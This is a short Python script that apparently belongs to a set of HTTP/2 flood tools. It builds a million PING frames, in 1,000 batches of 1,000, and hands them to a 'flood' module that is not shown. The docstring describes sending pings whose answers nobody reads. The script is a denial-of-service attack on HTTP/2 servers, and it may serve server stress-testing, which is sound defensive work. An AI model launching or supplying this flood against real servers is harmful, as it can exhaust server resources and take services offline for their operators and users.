"""PING without end, whose answers nobody reads."""

import flood
from http2_connection import PING, frame

if __name__ == "__main__":
    flood.main([frame(PING, 0, 0, b"12345678") * 1_000] * 1_000)
